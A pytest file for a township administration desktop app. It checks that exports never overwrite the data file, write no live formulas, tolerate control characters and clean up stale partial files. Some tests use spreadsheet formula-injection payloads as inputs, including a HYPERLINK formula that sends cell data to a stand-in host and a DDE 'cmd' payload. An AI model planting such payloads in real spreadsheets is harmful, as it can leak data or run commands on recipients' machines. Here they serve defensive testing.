"""Every workbook and document the program writes: never over the data file (the score
template, the overdue list, the roster template, the bad rows and the Word report wrote
straight to the path the clerk chose), no live formula, no crash on a control character."""

from __future__ import annotations

import datetime as dt
import time

import pytest
from openpyxl import load_workbook

from dahe_desktop.appraisal import runs
from dahe_desktop.appraisal.labels import RATER_MEMBERS
from dahe_desktop.appraisal.workbook import export_template
from dahe_desktop.commitments import overdue, service
from dahe_desktop.dashboard.report import ReportContent
from dahe_desktop.dashboard.word import write_docx
from dahe_desktop.importing import preview_roster_import
from dahe_desktop.importing.sendback import write_bad_rows, write_template
from dahe_desktop.safety import outputs as safe_outputs
from dahe_desktop.safety.outputs import OutputPathError
from db.connection import database_file
from tests.core.test_commitments_data import commit
from tests.fixtures.rosters import member_row, write_csv
from tests.helpers.appraisal import scoring_run
from tests.helpers.roster import small_roster

ATTACK = '=HYPERLINK("http://x/?"&A3,"点这里")'


def assert_text_cells(path, *values: str) -> None:
    """Each value is in the workbook as a text cell, none is a formula."""
    found = {}
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                found[cell.value] = cell
    for value in values:
        assert value in found, value
        assert found[value].data_type == "s" and found[value].quotePrefix


def report() -> ReportContent:
    return ReportContent(title="工作概况", sections=[("一、", "正文")], issuer="中共大河乡委员会",
                         date=dt.date(2026, 12, 1), table_title="表", header=["支部", "人数"],
                         rows=[["合计", "1"]])  # fmt: skip


@pytest.mark.sqlite_only("writes aimed at the SQLite data file")
def test_no_writer_overwrites_the_data_file(db, tmp_path):
    run_id, ids = scoring_run()  # on the small roster
    commit(ids["卓玛才让"], ["修缮村道"])
    rows = service.member_commitments(ids["卓玛才让"], 2026)
    preview = preview_roster_import(write_csv(tmp_path / "in.csv", [member_row("甲", dt.date(1980, 1, 2), 1, 性别="?")],
                                               encoding="utf-8"))
    live = database_file()
    before = live.read_bytes()
    writers = {
        "score template": lambda: export_template(run_id, live),
        "overdue list": lambda: overdue.export_overdue(live, rows, year=2026),
        "roster template": lambda: write_template(live),
        "bad rows": lambda: write_bad_rows(preview, live),
        "report": lambda: write_docx(report(), live),
    }
    for name, write in writers.items():
        with pytest.raises(OutputPathError):
            write()
        assert live.read_bytes() == before, name
    assert not list(tmp_path.glob(".*part"))


def test_the_overdue_list_runs_no_formula_and_takes_control_characters(db, tmp_path):
    ids = small_roster()
    commit(ids["卓玛才让"], [ATTACK, "@SUM(1)", "修缮\x07村道"])
    rows = service.member_commitments(ids["卓玛才让"], 2026)
    out = tmp_path / "逾期.xlsx"
    assert overdue.export_overdue(out, rows, year=2026) == 3
    assert_text_cells(out, ATTACK, "@SUM(1)")


def test_the_rows_sent_back_to_the_village_run_no_formula(db, tmp_path):
    # The bad rows go back as the village wrote them: a CSV cell "=cmd|..." was a live
    # formula in the file the clerk e-mails back, and an ESC made the save crash.
    bad = [
        member_row("甲", dt.date(1980, 1, 2), 1, 性别="?", 备注="=cmd|' /C calc'!A0"),
        member_row("乙\x1b", dt.date(1980, 1, 3), 2, 性别="?", 职务="+1+1", 备注="@SUM(A1)\x1b[2J"),
    ]
    preview = preview_roster_import(write_csv(tmp_path / "in.csv", bad, encoding="utf-8-sig"))
    assert len(preview.bad) == 2
    out = tmp_path / "需改正的行.xlsx"
    write_bad_rows(preview, out)
    assert_text_cells(out, "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1) [2J")


def test_the_score_template_runs_no_formula(db, tmp_path):
    run_id, ids = scoring_run()
    # Rater names are refused at the door now; one stored before that still exports as text.
    from db.models import AppraisalRater

    AppraisalRater.update(name="=1+1").where(AppraisalRater.id == ids["rater:代表甲"]).execute()
    out = tmp_path / "评分表.xlsx"
    export_template(run_id, out)
    assert_text_cells(out, "=1+1")


def test_rater_names_like_formulas_or_overlong_are_refused(db):
    run_id, _ = scoring_run()
    from dahe_desktop.appraisal.records import AppraisalError

    for name in ("=1+1", "长" * 21):
        with pytest.raises(AppraisalError) as refused:
            runs.add_rater(run_id, RATER_MEMBERS, name)
        assert refused.value.lines[0].startswith("评议人姓名")
    with pytest.raises(AppraisalError) as refused:
        runs.add_rater(run_id, "群众代表", "代表乙", "村" * 41)
    assert "所在的村" in refused.value.lines[0]


def test_a_part_left_by_a_killed_export_goes_with_the_next_export(db, tmp_path):
    """A SIGKILL during an export leaves `.花名册.xxxx.xlsx.part` beside the target (it
    may hold full ID numbers); the next export to the same file removes it, but not a
    part young enough to belong to an export still running."""
    import os
    import subprocess
    import sys
    import textwrap

    target = tmp_path / "花名册.xlsx"
    child = textwrap.dedent(f"""
        import os, signal
        from dahe_desktop.safety.outputs import safe_output
        with safe_output({str(target)!r}) as temp:
            temp.write_bytes(b"632522198503120030")
            os.kill(os.getpid(), signal.SIGKILL)
    """)
    subprocess.run([sys.executable, "-c", child], cwd=os.getcwd(), check=False)
    [left] = tmp_path.glob(".花名册.*.xlsx.part")
    fresh = tmp_path / ".花名册.running.xlsx.part"
    fresh.write_bytes(b"")
    old = time.time() - safe_outputs.STALE_PART_SECONDS - 1
    os.utime(left, (old, old))
    with safe_outputs.safe_output(target) as temp:
        temp.write_bytes(b"new")
    assert not left.exists() and fresh.exists()
    assert target.read_bytes() == b"new"
